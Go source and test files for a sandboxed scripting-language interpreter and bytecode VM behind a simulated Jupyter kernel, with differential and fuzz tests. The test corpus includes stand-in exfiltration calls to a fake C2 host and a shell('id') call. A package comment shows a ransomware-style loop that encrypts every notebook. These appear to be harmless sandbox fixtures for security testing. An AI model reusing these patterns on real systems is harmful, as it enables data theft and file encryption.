	}
	return false
}

// NewEngine constructs the engine selected by name. Unknown names and
// the empty string fall back to the VM; strict validation belongs at
// the flag/config boundary (ValidEngine).
func NewEngine(name string, host Host, limits Limits) Engine {
	if name == EngineTree {
		return NewInterp(host, limits)
	}
	return NewVM(host, limits)
}
