package minilang

import (
	"fmt"
	"reflect"
	"strings"
	"testing"
)

// traceHost wraps a Host recording every callback in order, so tests
// can assert that both engines drive the host identically.
type traceHost struct {
	inner Host
	calls []string
}

func (h *traceHost) ReadFile(p string) ([]byte, error) {
	h.calls = append(h.calls, "read:"+p)
	return h.inner.ReadFile(p)
}

func (h *traceHost) WriteFile(p string, d []byte) error {
	h.calls = append(h.calls, fmt.Sprintf("write:%s:%d", p, len(d)))
	return h.inner.WriteFile(p, d)
}

func (h *traceHost) DeleteFile(p string) error {
	h.calls = append(h.calls, "delete:"+p)
	return h.inner.DeleteFile(p)
}

func (h *traceHost) RenameFile(o, n string) error {
	h.calls = append(h.calls, "rename:"+o+":"+n)
	return h.inner.RenameFile(o, n)
}

func (h *traceHost) ListFiles(d string) ([]string, error) {
	h.calls = append(h.calls, "list:"+d)
	return h.inner.ListFiles(d)
}

func (h *traceHost) HTTPRequest(m, u string, b []byte) (int, []byte, error) {
	h.calls = append(h.calls, fmt.Sprintf("http:%s:%s:%d", m, u, len(b)))
	return h.inner.HTTPRequest(m, u, b)
}

func (h *traceHost) Shell(c string) (string, error) {
	h.calls = append(h.calls, "shell:"+c)
	return h.inner.Shell(c)
}

func (h *traceHost) Spin(ms int64) {
	h.calls = append(h.calls, fmt.Sprintf("spin:%d", ms))
	h.inner.Spin(ms)
}

func (h *traceHost) Hostname() string {
	h.calls = append(h.calls, "hostname")
	return h.inner.Hostname()
}

func (h *traceHost) Env(n string) string {
	h.calls = append(h.calls, "env:"+n)
	return h.inner.Env(n)
}

// enginePair is a tree-walker and a VM on identical (but separate)
// hosts, for lock-step differential execution.
type enginePair struct {
	interp *Interp
	vm     *VM
	hi, hv *traceHost
}

func newEnginePair(limits Limits) *enginePair {
	seed := func(h *memHost) {
		h.files["/data/a.txt"] = "alpha\nbeta"
		h.files["/data/b.txt"] = "gamma"
	}
	mi, mv := newMemHost(), newMemHost()
	seed(mi)
	seed(mv)
	hi := &traceHost{inner: mi}
	hv := &traceHost{inner: mv}
	return &enginePair{
		interp: NewInterp(hi, limits),
		vm:     NewVM(hv, limits),
		hi:     hi,
		hv:     hv,
	}
}

// runBoth executes src on both engines and fails the test on any
// observable divergence: error, stdout, variables, host-call trace,
// or usage counters. It returns the interpreter error for callers
// asserting specific outcomes.
func (p *enginePair) runBoth(t *testing.T, src string) error {
	t.Helper()
	errI := p.interp.Run(src)
	errV := p.vm.Run(src)
	if fmt.Sprint(errI) != fmt.Sprint(errV) {
		t.Fatalf("error divergence on %q:\n  tree: %v\n  vm:   %v", src, errI, errV)
	}
	outI, outV := p.interp.TakeStdout(), p.vm.TakeStdout()
	if outI != outV {
		t.Fatalf("stdout divergence on %q:\n  tree: %q\n  vm:   %q", src, outI, outV)
	}
	if vi, vv := dumpVars(p.interp.Vars()), dumpVars(p.vm.Vars()); !reflect.DeepEqual(vi, vv) {
		t.Fatalf("vars divergence on %q:\n  tree: %v\n  vm:   %v", src, vi, vv)
	}
	if !reflect.DeepEqual(p.hi.calls, p.hv.calls) {
		t.Fatalf("host-call divergence on %q:\n  tree: %v\n  vm:   %v", src, p.hi.calls, p.hv.calls)
	}
	if p.interp.Counters() != p.vm.Counters() {
		t.Fatalf("counter divergence on %q:\n  tree: %+v\n  vm:   %+v", src, p.interp.Counters(), p.vm.Counters())
	}
	return errI
}

// dumpVars renders a namespace kind-tagged so NaN compares equal to
// itself and Str("1") stays distinct from Number(1).
func dumpVars(vars map[string]Value) map[string]string {
	out := make(map[string]string, len(vars))
	for k, v := range vars {
		out[k] = dumpValue(v)
	}
	return out
}

func dumpValue(v Value) string {
	switch t := v.(type) {
	case List:
		parts := make([]string, len(t))
		for i, e := range t {
			parts[i] = dumpValue(e)
		}
		return "l:[" + strings.Join(parts, ",") + "]"
	default:
		return v.valueKind() + ":" + Format(v)
	}
}

// diffCorpus is the differential corpus: every language construct,
// every error class, folding-sensitive shapes, and host traffic. The
// step-limit sweep and the fuzz seeds reuse it.
var diffCorpus = []string{
	"x = 1 + 2 * 3\nprint(x)",
	`print("a" + "b", 1 < 2, [1, 2, 3])`,
	"print(-5 + 3)",
	"print(not 0, not [], not \"x\")",
	"n = spin(0)\nprint(1 == 1, 1 != 2, n == 3, n == n, str(n))",
	"x = [10, 20, 30]\nprint(x[0], x[-1], x[1 + 1])",
	"x = \"hello\"\nprint(x[1], x[-1])",
	"print([1,2][5])",
	"print(\"abc\"[-9])",
	"print([1][\"a\"])",
	"print(5[0])",
	"total = 0\nfor i in range(100)\ntotal = total + i\nend\nprint(total)",
	"a = 0\nb = 1\nn = 0\nwhile n < 20\nt = a + b\na = b\nb = t\nn = n + 1\nend\nprint(a)",
	"break",
	"if 1\nbreak\nend",
	"i = 0\nwhile 1\ni = i + 1\nif i > 3\nbreak\nend\nend\nprint(i)",
	"while 0\nshell(\"never\")\nend\nprint(\"after\")",
	"for x in [1, 2, 3]\nif x == 2\nbreak\nend\nprint(x)\nend\nprint(x)",
	"for ln in \"alpha\\nbeta\"\nprint(ln)\nend",
	"for ln in read_file(\"/data/a.txt\")\nprint(ln)\nend",
	"for x in 42\nprint(x)\nend",
	"if 1 > 2\nprint(\"no\")\nelse\nprint(\"yes\")\nend",
	"if 2 > 1\nprint(\"yes\")\nend",
	"if 0\nshell(\"dead\")\nelse\nprint(\"live\")\nend",
	"x = 0 and nope()\nprint(x)",
	"x = 1 or nope()\nprint(x)",
	"x = 1 and \"s\"\nprint(x)",
	"x = 0 or []\nprint(x)",
	"x = len(\"ab\") and 1 + 2\nprint(x)",
	"nope()",
	"len()",
	"len(1, 2)",
	"print(1 + \"a\")",
	"print([1] < [2])",
	"print(1 / 0)",
	"print(5 % 0)",
	"print(1 % 0.5)",
	"print(7 % -2.9, -7 % 2.9)",
	"print(7 % 3, 10 / 4)",
	"print(\"ab\" * 3)",
	"print(\"a\" * -1)",
	"print(nosuchvar)",
	"x = num(\"nan\")\nprint(x < 1, x > 1, x <= 1, x >= 1, x == x)",
	"print(num(\"3.5\") + num(\"  2 \"))",
	"print(num(\"bogus\"))",
	"x = [1, 2]\nx = append(x, 3)\nprint(x, len(x))",
	"print(join(split(\"a,b,c\", \",\"), \"-\"))",
	"print(contains(\"hay\", \"a\"), upper(\"ab\"), lower(\"AB\"))",
	"print(sha256(\"x\"))",
	"print(b64encode(\"hi\"), b64decode(\"aGk=\"))",
	"print(b64decode(\"!!!\"))",
	"c = encrypt(\"secret\", \"k\")\nprint(decrypt(c, \"k\"))",
	"print(str(3.5) + str([1, \"a\", [2]]))",
	"print(read_file(\"/data/a.txt\"))",
	"print(read_file(\"/missing\"))",
	"write_file(\"/tmp/x\", \"payload\")\nprint(read_file(\"/tmp/x\"))",
	"write_file(\"/tmp/y\", \"v\")\nrename_file(\"/tmp/y\", \"/tmp/z\")\ndelete_file(\"/tmp/z\")",
	"delete_file(\"/missing\")",
	"for f in list_files(\"/data\")\nprint(f)\nend",
	"print(http_get(\"http://c2.example/x\"))",
	"print(http_post(\"http://c2.example/x\", \"exfil\"))",
	"print(shell(\"id\"))",
	"spin(5)\nspin(3)",
	"print(hostname(), env(\"USER\"), env(\"NOPE\"))",
	"1 + 2\nprint(3)",
	"x = [1,\n2]\nprint(x)",
	"x = range(3)\nfor i in x\nfor j in x\nif j == 1\nbreak\nend\nprint(i, j)\nend\nend",
	"while 1\nbreak\nend\nprint(\"out\")",
	"x = 1\nwhile x < 100 and 1\nx = x * 2\nend\nprint(x)",
	"print(2 + 3 == 5 and (1 or 0))",
	"print(len(range(0)))",
	"range(-1)",
	"spin(0 - 4)",
}

func TestVMMatchesInterpOnCorpus(t *testing.T) {
	for _, src := range diffCorpus {
		p := newEnginePair(Limits{})
		p.runBoth(t, src)
	}
}

// TestVMSharedSessionState runs the whole corpus through ONE engine
// pair, so variables, stdout interleaving, and counters accumulate
// across Run calls exactly as kernel cells do.
func TestVMSharedSessionState(t *testing.T) {
	p := newEnginePair(Limits{})
	for _, src := range diffCorpus {
		p.runBoth(t, src)
	}
}

// TestVMStepLimitEquivalence is the limit-equivalence oracle: for
// budget-sensitive programs (loops, folded constants, host calls), an
// execution under EVERY step budget from 1 upward must produce the
// same outcome on both engines — same error (line included), same
// partial stdout, same host-call prefix. This pins that constant
// folding and instruction-cost batching charge exactly the ticks the
// interpreter does, at the same observable points.
func TestVMStepLimitEquivalence(t *testing.T) {
	progs := []string{
		"x = 1 + 2 * 3\ny = x + 1\nprint(y)",
		"total = 0\nfor i in range(5)\ntotal = total + i * 2\nend\nprint(total)",
		"i = 0\nwhile i < 4\ni = i + 1\nshell(\"tick\")\nend",
		"while 1\nspin(1)\nbreak\nend",
		"if 1 + 1 == 2\nwrite_file(\"/t\", \"a\" + \"b\")\nend\nprint(read_file(\"/t\"))",
		"x = 0\nwhile 1\nx = x + 1\nif x > 2\nbreak\nend\nend\nprint(x)",
		"for ln in \"a\\nb\\nc\"\nprint(ln, 1 * 2 + 3)\nend",
		"x = [1, 2, 3]\nprint(x[0 + 1], not 0 and 1)",
	}
	for _, src := range progs {
		sawLimit, sawOK := false, false
		for max := 1; max <= 150; max++ {
			p := newEnginePair(Limits{MaxSteps: max})
			err := p.runBoth(t, src)
			var rerr *RuntimeError
			if err == nil {
				sawOK = true
			} else if asRuntime(err, &rerr) && rerr.EName == "ResourceError" {
				sawLimit = true
			}
		}
		if !sawLimit || !sawOK {
			t.Fatalf("sweep of %q not discriminating: limit=%v ok=%v", src, sawLimit, sawOK)
		}
	}
}

func asRuntime(err error, out **RuntimeError) bool {
	r, ok := err.(*RuntimeError)
	if ok {
		*out = r
	}
	return ok
}

// TestVMOutputLimitEquivalence sweeps the stdout budget the same way.
func TestVMOutputLimitEquivalence(t *testing.T) {
	src := "for i in range(20)\nprint(\"line\", i)\nend\nprint(\"done\")"
	for max := 1; max <= 200; max += 3 {
		p := newEnginePair(Limits{MaxOutputBytes: max})
		p.runBoth(t, src)
	}
}

// compileFor compiles src on a fresh VM and returns the chunk, for
// structural assertions about the emitted bytecode.
func compileFor(t *testing.T, src string, limits Limits) (*VM, *chunk) {
	t.Helper()
	prog, err := Parse(src)
	if err != nil {
		t.Fatalf("parse: %v", err)
	}
	vm := NewVM(newMemHost(), limits)
	return vm, compileProgram(vm, prog)
}

func countOps(ch *chunk, o op) int {
	n := 0
	for _, in := range ch.code {
		if in.op == o {
			n++
		}
	}
	return n
}

// countArith counts arithmetic operations of kind o, whether they
// survive as plain instructions or as the sub of a fused
// superinstruction.
func countArith(ch *chunk, o op) int {
	n := 0
	for _, in := range ch.code {
		if in.op == o || (in.op >= opBinLL && in.op <= opBinSt && in.sub == o) {
			n++
		}
	}
	return n
}

func TestConstantFoldingFoldsPureExpressions(t *testing.T) {
	// A pure literal expression folds to a single constant push; the
	// binary operators disappear from the instruction stream.
	_, ch := compileFor(t, "x = 1 + 2 * 3 - (4 / 2)", Limits{})
	if got := countOps(ch, opAdd) + countOps(ch, opMul) + countOps(ch, opSub) + countOps(ch, opDiv); got != 0 {
		t.Fatalf("pure arithmetic not folded: %d arith ops remain", got)
	}
	// The const push then fuses with the store into one conststore.
	if got := countOps(ch, opConst) + countOps(ch, opConstStr); got != 1 {
		t.Fatalf("want 1 const push, got %d", got)
	}
	// The fold preserves the tick cost of the original tree: 1 for
	// the statement plus 9 expression nodes (5 literals, 4 operators).
	var total int32
	for _, in := range ch.code {
		total += in.cost
	}
	if total != 10 {
		t.Fatalf("folded cost = %d, want 10", total)
	}
}

func TestConstantFoldingNeverFoldsSideEffects(t *testing.T) {
	// Expressions containing calls must keep their call instructions
	// even when wrapped in constant-looking arithmetic: builtins can
	// touch the host, and the folder must never elide or reorder
	// them. This is the regression guard for the folding pass.
	cases := []string{
		"x = 1 + len(shell(\"id\")) * 2",
		"x = spin(1) == spin(0)",
		"x = 1 and shell(\"id\")",
		"x = hostname() and 1",
	}
	for _, src := range cases {
		_, ch := compileFor(t, src, Limits{})
		if countOps(ch, opCall) == 0 {
			t.Fatalf("call folded away in %q", src)
		}
	}
	// And the calls actually execute, identically on both engines.
	p := newEnginePair(Limits{})
	p.runBoth(t, "x = 1 + len(shell(\"id\")) * 2\nprint(x)")
	if len(p.hi.calls) == 0 {
		t.Fatal("side effect elided: no host calls recorded")
	}
}

func TestConstantFoldingSkipsRuntimeErrors(t *testing.T) {
	// Operations that would error do not fold: the runtime must raise
	// them, at the right line, only if the code path executes.
	_, ch := compileFor(t, "x = 1 / 0", Limits{})
	if countArith(ch, opDiv) != 1 {
		t.Fatalf("1/0 must stay a runtime division, got %d div ops", countArith(ch, opDiv))
	}
	// Unexecuted erroring constant: dead branch, no error.
	p := newEnginePair(Limits{})
	if err := p.runBoth(t, "if 0\nx = 1 / 0\nend\nprint(\"ok\")"); err != nil {
		t.Fatalf("dead 1/0 raised: %v", err)
	}
}

func TestConstantBranchElimination(t *testing.T) {
	// `if 0` / `while 0` bodies are dead code: no instructions, and
	// in particular no call instructions, are emitted for them.
	_, ch := compileFor(t, "if 0\nshell(\"dead\")\nelse\nx = 1\nend\nwhile 0\nshell(\"dead2\")\nend", Limits{})
	if got := countOps(ch, opCall); got != 0 {
		t.Fatalf("dead branches kept %d calls", got)
	}
}

func TestVMProfilerCounts(t *testing.T) {
	vm := NewVM(newMemHost(), Limits{})
	prof := NewProfiler()
	vm.SetProfiler(prof)
	if err := vm.Run("t = 0\nfor i in range(10)\nt = t + i\nend"); err != nil {
		t.Fatal(err)
	}
	// Exact, deterministic instruction counts: the peephole pass fuses
	// the whole body `t = t + i` (load+load+add+store) into one
	// bin.ll.st and `t = 0` into a single conststore; the body
	// executes 10 times.
	if got := prof.OpCount("bin.ll.st"); got != 10 {
		t.Fatalf("bin.ll.st count = %d, want 10", got)
	}
	if got := prof.OpCount("conststore"); got != 1 { // t=0
		t.Fatalf("conststore count = %d, want 1", got)
	}
	if got := prof.OpCount("iternext"); got != 11 { // 10 items + exhaustion
		t.Fatalf("iternext count = %d, want 11", got)
	}
	if got := prof.LineCount(3); got != 10 { // one fused inst × 10 iterations
		t.Fatalf("line 3 count = %d, want 10", got)
	}
	table := prof.Table()
	for _, want := range []string{"OPCODE", "LINE", "bin.ll.st", "iternext"} {
		if !strings.Contains(table, want) {
			t.Fatalf("profiler table missing %q:\n%s", want, table)
		}
	}
	// The table is deterministic in structure: rendering twice with
	// no further execution is identical.
	if table != prof.Table() {
		t.Fatal("profiler table not deterministic")
	}
	prof.Reset()
	if prof.OpCount("add") != 0 {
		t.Fatal("reset did not clear counts")
	}
}

func TestBuiltinNamesMemoized(t *testing.T) {
	a := BuiltinNames()
	b := BuiltinNames()
	if len(a) == 0 || &a[0] != &b[0] {
		t.Fatal("BuiltinNames must return the memoized slice")
	}
	for i := 1; i < len(a); i++ {
		if a[i-1] >= a[i] {
			t.Fatalf("names not sorted: %q >= %q", a[i-1], a[i])
		}
	}
	if n := testing.AllocsPerRun(100, func() { BuiltinNames() }); n != 0 {
		t.Fatalf("BuiltinNames allocates %v per call after first use", n)
	}
}

func TestEngineSelection(t *testing.T) {
	h := newMemHost()
	if _, ok := NewEngine(EngineTree, h, Limits{}).(*Interp); !ok {
		t.Fatal("tree must select the interpreter")
	}
	if _, ok := NewEngine(EngineVM, h, Limits{}).(*VM); !ok {
		t.Fatal("vm must select the VM")
	}
	if _, ok := NewEngine("", h, Limits{}).(*VM); !ok {
		t.Fatal("default engine must be the VM")
	}
	for name, want := range map[string]bool{"": true, "tree": true, "vm": true, "jit": false} {
		if got := ValidEngine(name); got != want {
			t.Fatalf("ValidEngine(%q) = %v, want %v", name, got, want)
		}
	}
}

func TestVMEngineContract(t *testing.T) {
	// Both engines satisfy Engine and agree through the interface.
	for _, name := range []string{EngineTree, EngineVM} {
		eng := NewEngine(name, newMemHost(), Limits{})
		if err := eng.Run("x = 6 * 7\nprint(x)"); err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		if got := eng.TakeStdout(); got != "42\n" {
			t.Fatalf("%s stdout = %q", name, got)
		}
		if got := eng.Vars()["x"]; got != Number(42) {
			t.Fatalf("%s vars[x] = %v", name, got)
		}
		if eng.TakeStdout() != "" {
			t.Fatalf("%s TakeStdout did not clear", name)
		}
	}
}

func TestVMDeepNestingNearLimits(t *testing.T) {
	// A deeply right-nested arithmetic expression folds to one
	// constant whose cost equals the full tree; sweeping budgets near
	// that cost must agree with the interpreter on both sides of the
	// edge.
	src := "x = " + strings.Repeat("1 + (", 40) + "0" + strings.Repeat(")", 40)
	for max := 75; max <= 90; max++ {
		p := newEnginePair(Limits{MaxSteps: max})
		p.runBoth(t, src)
	}
}

func TestXorKeystreamInvalidUTF8(t *testing.T) {
	// encrypt output is raw bytes (almost never valid UTF-8); feeding
	// it back through decrypt and index/compare paths must agree
	// across engines byte-for-byte.
	p := newEnginePair(Limits{})
	p.runBoth(t, `c = encrypt("payload-bytes", "k1")
d = c + c
print(len(d), d[0] == d[len(c)])
print(decrypt(c, "k1"))
e = encrypt(c, "k2")
print(len(e), sha256(e))`)
}
