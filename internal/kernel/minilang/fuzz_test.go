package minilang

import (
	"math/rand"
	"strings"
	"testing"
	"testing/quick"
)

// The parser and interpreter process attacker-controlled input (cell
// sources arrive from the network), so they must never panic and must
// always terminate within the step budget, for ANY input. These
// property tests throw structured garbage at both.

func TestParseNeverPanics(t *testing.T) {
	f := func(src string) bool {
		defer func() {
			if r := recover(); r != nil {
				t.Errorf("Parse panicked on %q: %v", src, r)
			}
		}()
		_, _ = Parse(src)
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 500}); err != nil {
		t.Error(err)
	}
}

func TestParseNeverPanicsOnTokenSoup(t *testing.T) {
	// Random sequences of valid tokens are more likely to reach deep
	// parser states than random unicode.
	fragments := []string{
		"for", "in", "if", "else", "end", "while", "and", "or", "not",
		"break", "x", "print", "(", ")", "[", "]", ",", "+", "-", "*",
		"/", "%", "=", "==", "!=", "<", ">", "<=", ">=", "\n", `"s"`,
		"42", "3.14", ";", "read_file", "encrypt",
	}
	rng := rand.New(rand.NewSource(99))
	for trial := 0; trial < 2000; trial++ {
		var b strings.Builder
		n := rng.Intn(30)
		for i := 0; i < n; i++ {
			b.WriteString(fragments[rng.Intn(len(fragments))])
			b.WriteByte(' ')
		}
		src := b.String()
		func() {
			defer func() {
				if r := recover(); r != nil {
					t.Fatalf("Parse panicked on token soup %q: %v", src, r)
				}
			}()
			_, _ = Parse(src)
		}()
	}
}

func TestRunTerminatesOnTokenSoup(t *testing.T) {
	fragments := []string{
		"x = 1", "while 1", "for i in range(10)", "end", "break",
		"if x", "else", "print(x)", "x = x + 1", "\n",
	}
	rng := rand.New(rand.NewSource(7))
	for trial := 0; trial < 500; trial++ {
		var b strings.Builder
		n := rng.Intn(12)
		for i := 0; i < n; i++ {
			b.WriteString(fragments[rng.Intn(len(fragments))])
			b.WriteByte('\n')
		}
		src := b.String()
		in := NewInterp(newMemHost(), Limits{MaxSteps: 50000})
		func() {
			defer func() {
				if r := recover(); r != nil {
					t.Fatalf("Run panicked on %q: %v", src, r)
				}
			}()
			_ = in.Run(src) // errors fine; panics and hangs are not
		}()
	}
}

func TestDeepNestingBounded(t *testing.T) {
	// Deeply nested expressions must parse (or error) without stack
	// exhaustion at sane depths.
	src := strings.Repeat("(", 2000) + "1" + strings.Repeat(")", 2000)
	if _, err := Parse("x = " + src); err != nil {
		t.Logf("deep nesting rejected: %v (acceptable)", err)
	}
	// Unbalanced versions must error, not hang.
	if _, err := Parse("x = " + strings.Repeat("(", 5000) + "1"); err == nil {
		t.Fatal("unbalanced parens accepted")
	}
}

func TestHugeLiteralsRejectedByLimits(t *testing.T) {
	in := NewInterp(newMemHost(), Limits{MaxSteps: 100000, MaxValueBytes: 4096})
	err := in.Run(`x = "` + strings.Repeat("a", 2000) + `"
y = x + x + x`)
	if err == nil {
		t.Fatal("oversized value accepted")
	}
}
