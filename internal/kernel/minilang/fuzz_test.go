package minilang

import (
	"math/rand"
	"strings"
	"testing"
	"testing/quick"
)

// The parser and interpreter process attacker-controlled input (cell
// sources arrive from the network), so they must never panic and must
// always terminate within the step budget, for ANY input. These
// property tests throw structured garbage at both.

func TestParseNeverPanics(t *testing.T) {
	f := func(src string) bool {
		defer func() {
			if r := recover(); r != nil {
				t.Errorf("Parse panicked on %q: %v", src, r)
			}
		}()
		_, _ = Parse(src)
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 500}); err != nil {
		t.Error(err)
	}
}

func TestParseNeverPanicsOnTokenSoup(t *testing.T) {
	// Random sequences of valid tokens are more likely to reach deep
	// parser states than random unicode.
	fragments := []string{
		"for", "in", "if", "else", "end", "while", "and", "or", "not",
		"break", "x", "print", "(", ")", "[", "]", ",", "+", "-", "*",
		"/", "%", "=", "==", "!=", "<", ">", "<=", ">=", "\n", `"s"`,
		"42", "3.14", ";", "read_file", "encrypt",
	}
	rng := rand.New(rand.NewSource(99))
	for trial := 0; trial < 2000; trial++ {
		var b strings.Builder
		n := rng.Intn(30)
		for i := 0; i < n; i++ {
			b.WriteString(fragments[rng.Intn(len(fragments))])
			b.WriteByte(' ')
		}
		src := b.String()
		func() {
			defer func() {
				if r := recover(); r != nil {
					t.Fatalf("Parse panicked on token soup %q: %v", src, r)
				}
			}()
			_, _ = Parse(src)
		}()
	}
}

func TestRunTerminatesOnTokenSoup(t *testing.T) {
	fragments := []string{
		"x = 1", "while 1", "for i in range(10)", "end", "break",
		"if x", "else", "print(x)", "x = x + 1", "\n",
	}
	rng := rand.New(rand.NewSource(7))
	for trial := 0; trial < 500; trial++ {
		var b strings.Builder
		n := rng.Intn(12)
		for i := 0; i < n; i++ {
			b.WriteString(fragments[rng.Intn(len(fragments))])
			b.WriteByte('\n')
		}
		src := b.String()
		in := NewInterp(newMemHost(), Limits{MaxSteps: 50000})
		func() {
			defer func() {
				if r := recover(); r != nil {
					t.Fatalf("Run panicked on %q: %v", src, r)
				}
			}()
			_ = in.Run(src) // errors fine; panics and hangs are not
		}()
	}
}

func TestDeepNestingBounded(t *testing.T) {
	// Deeply nested expressions must parse (or error) without stack
	// exhaustion at sane depths.
	src := strings.Repeat("(", 2000) + "1" + strings.Repeat(")", 2000)
	if _, err := Parse("x = " + src); err != nil {
		t.Logf("deep nesting rejected: %v (acceptable)", err)
	}
	// Unbalanced versions must error, not hang.
	if _, err := Parse("x = " + strings.Repeat("(", 5000) + "1"); err == nil {
		t.Fatal("unbalanced parens accepted")
	}
}

func TestHugeLiteralsRejectedByLimits(t *testing.T) {
	in := NewInterp(newMemHost(), Limits{MaxSteps: 100000, MaxValueBytes: 4096})
	err := in.Run(`x = "` + strings.Repeat("a", 2000) + `"
y = x + x + x`)
	if err == nil {
		t.Fatal("oversized value accepted")
	}
}

// FuzzVMMatchesInterp is the standing differential harness from the
// VM work: every generated program runs on both engines, which must
// agree on error (type, line, message), stdout, final variables,
// host-call trace, and usage counters. The tree-walking interpreter
// is the oracle; any divergence is a VM (or compiler/folder) bug.
// Seeds cover the whole differential corpus plus VM corner cases:
// folded constants near the step limit, break inside constant-folded
// branches, and keystream output that is not valid UTF-8.
func FuzzVMMatchesInterp(f *testing.F) {
	for _, src := range diffCorpus {
		f.Add(src)
	}
	f.Add("x = " + strings.Repeat("1 + (", 40) + "0" + strings.Repeat(")", 40))
	f.Add("while 1\nif 1\nbreak\nend\nend\nprint(\"out\")")
	f.Add("for i in range(3)\nif 1 and 1\nbreak\nend\nend")
	f.Add("while 1 == 1\nspin(1)\nbreak\nend")
	f.Add("c = encrypt(\"\\xff\\xfe raw\", \"k\")\nprint(len(c), c == c, c[0])")
	f.Add("if 0\nbreak\nend\nbreak")
	f.Add("x = 1/0 and shell(\"id\")")
	f.Add("print(1 % 0.5, 7 % -0.9)")
	f.Fuzz(func(t *testing.T, src string) {
		if len(src) > 4096 {
			t.Skip()
		}
		// Tight budgets keep hostile loops fast and make limit
		// accounting part of the differential surface.
		p := newEnginePair(Limits{
			MaxSteps:       20_000,
			MaxOutputBytes: 4096,
			MaxValueBytes:  1 << 16,
			MaxSpinMillis:  50,
		})
		p.runBoth(t, src)
	})
}
