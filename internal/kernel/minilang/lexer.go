// Package minilang implements the small scripting language executed by
// the simulated Jupyter kernel. It stands in for a Python kernel: cell
// sources are minilang programs with file, network, process, and
// crypto primitives — enough expressive power for both science
// workloads and every attack payload in the taxonomy, while remaining
// fully sandboxed behind a Host interface.
//
// The language is line-oriented:
//
//	data = read_file("results/train.csv")
//	key = "beef"
//	for f in list_files("notebooks")
//	    write_file(f, encrypt(read_file(f), key))
//	end
//	if status == "ok"
//	    print("done", len(data))
//	end
//
// Values are strings, numbers, lists, and nil. Expressions support
// calls, + (concat/add), comparisons, and indexing.
//
// Two execution engines share one runtime substrate (rt): the
// reference tree-walking interpreter (Interp) and a bytecode VM (VM)
// that compiles programs to a register/stack hybrid with constant
// folding and fused superinstructions (compile.go, opt.go, vm.go).
// The VM is the default engine (NewEngine, kernel Config.Engine); the
// interpreter remains the oracle the VM is differentially fuzzed
// against (FuzzVMMatchesInterp), with observable equivalence pinned
// down to host-call order, stdout bytes, error lines, and step
// accounting. VM.SetProfiler attaches a deterministic per-opcode /
// per-line execution profile.
package minilang

import (
	"fmt"
	"strings"
	"unicode"
)

// tokKind classifies lexer tokens.
type tokKind int

const (
	tokEOF tokKind = iota
	tokNewline
	tokIdent
	tokString
	tokNumber
	tokAssign // =
	tokLParen
	tokRParen
	tokLBracket
	tokRBracket
	tokComma
	tokPlus
	tokMinus
	tokStar
	tokSlash
	tokPercent
	tokEq  // ==
	tokNeq // !=
	tokLt
	tokGt
	tokLe
	tokGe
	tokKwFor
	tokKwIn
	tokKwIf
	tokKwElse
	tokKwEnd
	tokKwWhile
	tokKwAnd
	tokKwOr
	tokKwNot
	tokKwBreak
)

// token is one lexical token with its source line for diagnostics.
type token struct {
	kind tokKind
	text string
	num  float64
	line int
}

func (t token) String() string {
	switch t.kind {
	case tokEOF:
		return "end of input"
	case tokNewline:
		return "newline"
	case tokString:
		return fmt.Sprintf("string %q", t.text)
	case tokNumber:
		return fmt.Sprintf("number %s", t.text)
	default:
		return fmt.Sprintf("%q", t.text)
	}
}

var keywords = map[string]tokKind{
	"for": tokKwFor, "in": tokKwIn, "if": tokKwIf, "else": tokKwElse,
	"end": tokKwEnd, "while": tokKwWhile, "and": tokKwAnd, "or": tokKwOr,
	"not": tokKwNot, "break": tokKwBreak,
}

// SyntaxError reports a lexing or parsing failure with its line.
type SyntaxError struct {
	Line int
	Msg  string
}

func (e *SyntaxError) Error() string {
	return fmt.Sprintf("minilang: line %d: %s", e.Line, e.Msg)
}

func lex(src string) ([]token, error) {
	var toks []token
	line := 1
	i := 0
	emit := func(k tokKind, text string) { toks = append(toks, token{kind: k, text: text, line: line}) }
	for i < len(src) {
		c := src[i]
		switch {
		case c == '\n':
			emit(tokNewline, "\\n")
			line++
			i++
		case c == ' ' || c == '\t' || c == '\r':
			i++
		case c == '#':
			for i < len(src) && src[i] != '\n' {
				i++
			}
		case c == ';':
			emit(tokNewline, ";")
			i++
		case c == '"' || c == '\'':
			quote := c
			i++
			var sb strings.Builder
			closed := false
			for i < len(src) {
				if src[i] == '\\' && i+1 < len(src) {
					switch src[i+1] {
					case 'n':
						sb.WriteByte('\n')
					case 't':
						sb.WriteByte('\t')
					case '\\':
						sb.WriteByte('\\')
					case quote:
						sb.WriteByte(quote)
					default:
						sb.WriteByte(src[i+1])
					}
					i += 2
					continue
				}
				if src[i] == quote {
					closed = true
					i++
					break
				}
				if src[i] == '\n' {
					break
				}
				sb.WriteByte(src[i])
				i++
			}
			if !closed {
				return nil, &SyntaxError{Line: line, Msg: "unterminated string"}
			}
			toks = append(toks, token{kind: tokString, text: sb.String(), line: line})
		case c >= '0' && c <= '9':
			start := i
			for i < len(src) && (src[i] >= '0' && src[i] <= '9' || src[i] == '.') {
				i++
			}
			text := src[start:i]
			var f float64
			if _, err := fmt.Sscanf(text, "%g", &f); err != nil {
				return nil, &SyntaxError{Line: line, Msg: "bad number " + text}
			}
			toks = append(toks, token{kind: tokNumber, text: text, num: f, line: line})
		case isIdentStart(rune(c)):
			start := i
			for i < len(src) && isIdentPart(rune(src[i])) {
				i++
			}
			word := src[start:i]
			if k, ok := keywords[word]; ok {
				emit(k, word)
			} else {
				emit(tokIdent, word)
			}
		default:
			two := ""
			if i+1 < len(src) {
				two = src[i : i+2]
			}
			switch two {
			case "==":
				emit(tokEq, two)
				i += 2
				continue
			case "!=":
				emit(tokNeq, two)
				i += 2
				continue
			case "<=":
				emit(tokLe, two)
				i += 2
				continue
			case ">=":
				emit(tokGe, two)
				i += 2
				continue
			}
			switch c {
			case '=':
				emit(tokAssign, "=")
			case '(':
				emit(tokLParen, "(")
			case ')':
				emit(tokRParen, ")")
			case '[':
				emit(tokLBracket, "[")
			case ']':
				emit(tokRBracket, "]")
			case ',':
				emit(tokComma, ",")
			case '+':
				emit(tokPlus, "+")
			case '-':
				emit(tokMinus, "-")
			case '*':
				emit(tokStar, "*")
			case '/':
				emit(tokSlash, "/")
			case '%':
				emit(tokPercent, "%")
			case '<':
				emit(tokLt, "<")
			case '>':
				emit(tokGt, ">")
			default:
				return nil, &SyntaxError{Line: line, Msg: fmt.Sprintf("unexpected character %q", c)}
			}
			i++
		}
	}
	toks = append(toks, token{kind: tokEOF, line: line})
	return toks, nil
}

func isIdentStart(r rune) bool { return r == '_' || unicode.IsLetter(r) }
func isIdentPart(r rune) bool {
